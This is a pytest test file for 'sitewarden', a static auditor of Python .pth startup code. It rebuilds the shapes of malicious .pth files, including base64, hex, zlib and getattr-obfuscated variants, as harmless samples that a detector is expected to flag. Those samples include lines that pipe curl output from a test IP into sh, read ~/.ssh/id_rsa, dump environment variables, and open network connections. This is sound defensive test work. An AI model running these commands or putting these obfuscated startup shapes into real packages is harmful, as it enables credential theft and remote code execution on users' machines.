"""``check`` names what startup code does (``audit.capabilities``), from its syntax tree,
never running it, and files code that starts processes, uses the network, reads credentials
or executes what it decodes as ``dangerous-startup-code`` (high) whoever owns it.

- the field's shapes, built here (no payload is fetched): LiteLLM 1.82.8's
  ``litellm_init.pth`` (``subprocess.Popen`` of ``sys.executable -c`` with base64-decoded
  code), the 2026 ``<pkg>-setup.pth`` (``exec`` of base64-decoded code naming
  ``urllib.request.urlopen``), and obfuscated variants (aliases, ``getattr(__import__())``,
  hex, base64 twice, zlib), each in a distribution whose RECORD verifies it: high; every
  payload is harmless when a start runs it (``check`` never does, a plain start may): the
  dangerous call sits in a function never called or behind ``0 and``, and a python it starts
  runs with ``-S``;
- the benign set: Debian's ``distutils-precedence.pth`` line and ``sitecustomize``,
  editable installs, pytest-cov 6.0.0 and setuptools 69.5.1 (real wheels from PyPI,
  unpacked with their RECORD), coverage's and virtualenv's ``.pth`` lines, this machine's
  ``_sandboxing_egress_ca.pth``: never high.
"""

from __future__ import annotations

import base64
import json
import zlib
from pathlib import Path

import pytest

from harness.dists import make_dist
from harness.interpreters import pyenv_interpreters
from harness.wheels import unpacked, wheel
from sitewarden.audit import capabilities as caps
from sitewarden.audit import line_checks


def _b64(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


NEVER_NET = "def _never():\n    import urllib.request\n    urllib.request.urlopen('https://192.0.2.1/rt')\n"
NEVER_SOCKET = "def _never():\n    import socket\n    socket.create_connection(('192.0.2.1', 9))\n"
NEVER_SHELL = "def _never():\n    import os\n    os.system('curl -s http://192.0.2.1/x | sh')\n"
NEVER_SSH = ("def _never():\n    import os\n"
             "    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n")

#: name -> (the .pth line, the capabilities it must have, at least)
FIELD = {
    "litellm": (
        'import base64, os, subprocess, sys; subprocess.Popen([sys.executable, "-S", "-c", '
        'base64.b64decode("%s").decode()])' % _b64("pass"),
        {"starts-processes", "decodes-and-executes", "launches-runtime"}),
    "litellm-child": (
        "import os, subprocess, sys; subprocess.Popen([sys.executable, '-S', '-c', "
        "\"import base64; exec(base64.b64decode('%s'))\"])" % _b64("pass"),
        {"starts-processes", "decodes-and-executes", "launches-runtime", "dynamic-code"}),
    "setup": ("import base64;exec(base64.b64decode('%s'))" % _b64(NEVER_NET),
              {"decodes-and-executes", "network", "dynamic-code"}),
    "alias": ("import subprocess as s; 0 and s.Popen(['true'])", {"starts-processes"}),
    "from-alias": ("import sys; from subprocess import Popen as P; 0 and P(['true'])",
                   {"starts-processes"}),
    "getattr": ("import os; 0 and getattr(__import__('subprocess'), 'Popen')(['true'])",
                {"starts-processes"}),
    "dunder": ("import sys; 0 and __import__('os').system('true')", {"starts-processes"}),
    "hex": ("import sys; exec(bytes.fromhex('%s'))" % NEVER_SOCKET.encode().hex(),
            {"decodes-and-executes", "network"}),
    "twice": ("import base64;exec(base64.b64decode(base64.b64decode('%s')))"
              % base64.b64encode(_b64(NEVER_SHELL).encode()).decode(),
              {"decodes-and-executes", "starts-processes", "launches-runtime"}),
    "zlib": ("import base64, zlib;exec(zlib.decompress(base64.b64decode('%s')))"
             % base64.b64encode(zlib.compress(NEVER_SSH.encode())).decode(),
             {"decodes-and-executes", "reads-credentials"}),
    "environ": ("import os, json; 0 and json.dumps(dict(os.environ))", {"reads-credentials"}),
    # code that runs what it does not show: runs-hidden-code
    "exec-file": ("import sys; 0 and exec(open('/nonexistent').read())", {"runs-hidden-code"}),
    "pickle": ("import pickle; 0 and pickle.loads(b'')", {"runs-hidden-code"}),
    "builtins": ("import builtins, sys; 0 and getattr(builtins, sys.argv[0])",
                 {"runs-hidden-code"}),
    "builtins-item": ("import sys; 0 and __builtins__[sys.argv[0]]", {"runs-hidden-code"}),
    "ctypes": ("import sys; 0 and __import__('ctypes').CDLL(None)", {"runs-hidden-code"}),
    "code-type": ("import types; 0 and types.FunctionType(types.CodeType(*()), {})",
                  {"runs-hidden-code"}),
}

PYTEST_COV_6 = (
    "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n    try:\\n        from "
    "pytest_cov.embed import init\\n        init()\\n    except Exception as exc:\\n        "
    "sys.stderr.write(\\n            \"pytest-cov: Failed to setup subprocess coverage. \"\\n"
    "            \"Environ: {0!r} \"\\n            \"Exception: {1!r}\\\\n\".format(\\n     "
    "           dict((k, v) for k, v in os.environ.items() if k.startswith(\\'COV_CORE\\')),"
    "\\n                exc\\n            )\\n        )\\n')")
DEBIAN_SITECUSTOMIZE = (
    "# install the apport exception handler if available\ntry:\n    import apport_python_hook\n"
    "except ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n")
SANDBOX = (
    "import os;exec(\"try:\\n import certifi\\n _p=certifi.where(); _c='/etc/ssl/certs/sandbo"
    "xing-egress-ca.pem'\\n if os.path.isfile(_c) and os.path.getsize(_c)<65536 and os.path.is"
    "file(_p):\\n  with open(_c,'rb') as _f: _t=_f.read()\\n  with open(_p,'rb') as _f: _f.seek"
    "(max(0,os.path.getsize(_p)-len(_t)-64)); _tail=_f.read()\\n  if _t[-96:] not in _tail:\\n"
    "   with open(_p,'ab') as _f: _f.write(b'\\\\n'+_t)\\nexcept Exception: pass\\n\")")
BENIGN = [
    next(iter(line_checks.KNOWN_LINES)),
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    "'local'; enabled and __import__('_distutils_hack').add_shim(); ",
    "import __editable___x_finder; __editable___x_finder.install()",
    PYTEST_COV_6, "import coverage; coverage.process_startup()", "import _virtualenv",
    SANDBOX, DEBIAN_SITECUSTOMIZE,
]


def _names(text):
    return {name for name, _evidence in caps.analyse(text)}


@pytest.mark.parametrize("name", sorted(FIELD))
def test_field_shapes_are_dangerous(name):
    line, wanted = FIELD[name]
    found = _names(line)
    assert wanted <= found, (name, caps.analyse(line))
    assert caps.dangerous(caps.analyse(line)), name


def test_evidence_names_the_calls():
    found = dict(caps.analyse(FIELD["litellm"][0]))
    assert found["starts-processes"] == ("subprocess.Popen",)
    assert found["decodes-and-executes"] == ("base64.b64decode → subprocess.Popen",)
    assert found["launches-runtime"] == ("sys.executable -c",)
    found = dict(caps.analyse(FIELD["setup"][0]))
    assert "base64.b64decode → exec" in found["decodes-and-executes"]
    assert "decoded by base64.b64decode: urllib.request.urlopen" in found["network"], found
    assert caps.from_evidence(caps.evidence(caps.analyse(FIELD["zlib"][0]))) == \
        caps.analyse(FIELD["zlib"][0])


@pytest.mark.parametrize("text", BENIGN, ids=range(len(BENIGN)))
def test_the_benign_set_is_not_dangerous(text):
    found = caps.analyse(text)
    assert not caps.dangerous(found), found


def test_exec_of_a_literal_is_read_but_not_dangerous():
    assert dict(caps.analyse(PYTEST_COV_6)) == {"dynamic-code": ("exec of a literal",)}
    hidden = "import sys; exec('import subprocess; 0 and subprocess.run([\"true\"])')"
    assert "starts-processes" in _names(hidden)  # the literal is read as code
    assert _names("import sys; sys.path.insert(0, '/x')") == {"changes-import-system"}
    assert _names("import builtins; builtins.open = None") == {"changes-import-system"}


def test_hidden_code_and_what_is_shown():
    """Only code that runs what it does not show is ``runs-hidden-code``: a literal, a
    constant name, an annotation are read."""
    assert _names("import sys; exec(compile('x = 1', 'f', 'exec'))") == {"dynamic-code"}
    assert _names("import builtins; getattr(builtins, 'ex' + 'ec')('x = 1')") == {
        "dynamic-code"}
    assert _names("import types\ndef f(c: types.CodeType): pass") == set()
    assert _names("import sys; globals()['__builtins__']") == {"runs-hidden-code"}
    assert _names("import builtins; vars(builtins)") == {"runs-hidden-code"}
    assert _names("from ctypes import CDLL") == {"runs-hidden-code"}


def test_real_startup_code_hides_no_code():
    """setuptools' distutils hack and editable finder, pytest-cov's embed, editables'
    redirector (hatchling), virtualenv's ``_virtualenv``, pdm-backend's editable module,
    scikit-build-core's and meson-python's editable loaders: real files, from PyPI."""
    setuptools = unpacked(wheel("setuptools", "69.5.1"))
    texts = [(setuptools / "_distutils_hack" / "__init__.py").read_text(),
             (unpacked(wheel("pytest-cov", "6.0.0")) / "pytest_cov" / "embed.py").read_text()]
    source = (setuptools / "setuptools" / "command" / "editable_wheel.py").read_text()
    template = source.split('_FINDER_TEMPLATE = """', 1)[1].split('"""', 1)[0]
    texts.append(template.replace("{mapping!r}", "{'x': '/tmp/x'}").replace(
        "{namespaces!r}", "{}").replace("{name!r}", "'__editable__.x.finder'").replace(
        "{{", "{").replace("}}", "}"))
    for name, version, path in REAL_FILES:
        texts.append((unpacked(wheel(name, version)) / path).read_text())
    for text in texts:
        compile(text, "<real>", "exec")  # what is judged is code
        found = caps.analyse(text)
        assert not caps.dangerous(found), found
    for name, version, path in REBUILDERS:  # they run the build backend: processes
        found = caps.analyse((unpacked(wheel(name, version)) / path).read_text())
        assert "runs-hidden-code" not in _names_of(found), found


#: Startup code real wheels ship or generate: (distribution, version, file).
REAL_FILES = (("editables", "0.5", "editables/redirector.py"),
              ("virtualenv", "20.28.0", "virtualenv/create/via_global_ref/_virtualenv.py"),
              ("pdm-backend", "2.4.3", "pdm/backend/editable.py"))
#: Editable loaders that rebuild on import (``starts-processes``), hiding no code.
REBUILDERS = (("scikit-build-core", "0.11.1", "scikit_build_core/resources/_editable_redirect.py"),
              ("meson-python", "0.17.1", "mesonpy/_editable.py"))


def _names_of(found):
    return {name for name, _evidence in found}


def test_this_machines_sandbox_pth_is_not_dangerous():
    for path in (Path("/usr/lib/python3/dist-packages/_sandboxing_egress_ca.pth"),
                 Path("/usr/local/lib/python3.11/dist-packages/_sandboxing_egress_ca.pth")):
        if path.is_file():
            for line in path.read_text().splitlines():
                if line.startswith(("import ", "import\t")):
                    assert not caps.dangerous(caps.analyse(line)), line


def test_known_lines_hold_to_the_analysis():
    for line, found in caps.KNOWN.items():
        assert caps._read(line, 0, [caps.MAX_DECODED]) == {} and found == (), line


def test_bounds_hold():
    """Decoding nests at most MAX_DEPTH levels; what does not compile reads as nothing."""
    code = "import os; 0 and os.system('true')"
    for _ in range(caps.MAX_DEPTH + 2):
        code = "import base64; exec(base64.b64decode('%s'))" % _b64(code)
    found = dict(caps.analyse(code))
    assert "decodes-and-executes" in found
    assert any("nested deeper" in e for e in found.get("dynamic-code", ())), found
    assert caps.analyse("import (") == ()
    assert caps.analyse("exec(base64.b64decode('%s'))" % ("A" * 100000)) != ()


# ------------------------------------------------------------ check, end to end


def _report(t):
    proc = t.cli("check", "--python", t.executable, "--json")
    assert proc.returncode in (0, 1), proc.stderr
    # --verbose: the lines of a file with a finding too (the finding says the rest)
    text = t.cli("check", "--python", t.executable, "--verbose")
    return json.loads(proc.stdout), text.stdout


def test_check_files_field_shapes_high_and_the_benign_set_not(make_hermetic):
    t = make_hermetic(pyenv_interpreters()[-1])
    local = t.local_dir
    benign = {"swr-cap-coverage": "import coverage; coverage.process_startup()",
              "swr-cap-literal": "import sys; exec('swr_cap_literal = sys.version')"}

    def build(stage: Path) -> None:
        for name, (line, _wanted) in FIELD.items():
            mod = "swr_cap_" + name.replace("-", "_")
            make_dist(stage, "swr-cap-" + name, "1.0",
                      {mod + ".py": "", mod + ".pth": line + "\n"}, installer="pip")
        for name, line in benign.items():
            mod = name.replace("-", "_")
            make_dist(stage, name, "1.0", {mod + ".py": "", mod + ".pth": line + "\n"},
                      installer="pip")
        (stage / "coverage.py").write_text("def process_startup():\n    pass\n")
        (stage / "_virtualenv.py").write_text("")
        (stage / "_virtualenv.pth").write_text("import _virtualenv\n")
        (stage / "swr-cap-nobody.pth").write_text(FIELD["alias"][0] + "\n")

    t.copy_in(build, local)
    for name, version in (("pytest-cov", "6.0.0"), ("setuptools", "69.5.1")):
        t.merge_into(unpacked(wheel(name, version)), local)
    report, text = _report(t)
    files = {f["path"]: f for f in report["startup"]["files"]}

    def about(path):
        return [f for f in report["findings"] if path in (f.get("file"), (f.get(
            "details") or {}).get("file"))]

    for name, (_line, wanted) in FIELD.items():
        path = str(local / ("swr_cap_%s.pth" % name.replace("-", "_")))
        f = files[path]
        assert f["owner"]["verified"] is True, f["owner"]
        rows = [x for x in f["lines"] if x["kind"] == "import"]
        assert len(rows) == 1, (name, f)
        (row,) = rows
        assert wanted <= set(row["capabilities"]), (name, row)
        assert row["evidence"], row
        (finding,) = [x for x in about(path) if x["kind"] == "dangerous-startup-code"]
        assert finding["severity"] == "high", finding
        assert wanted & set(caps.DANGEROUS) <= set(finding["capabilities"]), finding
        assert finding["owner"] == {"kind": "distribution", "distribution": "swr-cap-" + name,
                                    "version": "1.0", "verified_against": "RECORD"}, finding
        assert finding["lines"] == [1]
        # Its fix: the quarantine of the file with its distribution, never a pip start.
        assert finding["command"] == "sitewarden quarantine %s --python %s" % (
            finding["id"][:12], t.executable)
        assert finding["command"] in finding["message"] and path in finding["message"]
        assert not [x for x in about(path) if x["kind"] == "distribution-startup-code"]
    nobody = str(local / "swr-cap-nobody.pth")
    (finding,) = [x for x in about(nobody) if x["kind"] == "dangerous-startup-code"]
    assert finding["command"] == "sitewarden quarantine %s --python %s" % (
        finding["id"][:12], t.executable), finding
    assert "no package installed it" in finding["message"], finding
    assert "subprocess.Popen" in finding["message"], finding

    benign_paths = [str(local / (n.replace("-", "_") + ".pth")) for n in benign] + [
        str(local / "_virtualenv.pth"), str(local / "pytest-cov.pth"),
        str(local / "distutils-precedence.pth")]
    for path in benign_paths:
        assert path in files, (path, sorted(files))
        assert not [x for x in about(path) if x["severity"] == "high"], json.dumps(about(path))
    assert files[str(local / "pytest-cov.pth")]["owner"]["verified"] is True
    literal = str(local / "swr_cap_literal.pth")
    assert [x["kind"] for x in about(literal)] == ["distribution-startup-code"]
    (row,) = [x for x in files[literal]["lines"] if x["kind"] == "import"]
    assert row["capabilities"] == ["dynamic-code"], row
    plain = [x for x in files[str(local / "_virtualenv.pth")]["lines"]]
    assert all("capabilities" not in x for x in plain), plain  # omitted when none

    assert "does: decodes-and-executes (base64.b64decode → subprocess.Popen)" in text, text
    assert "does: dynamic-code (exec of a literal)" in text, text
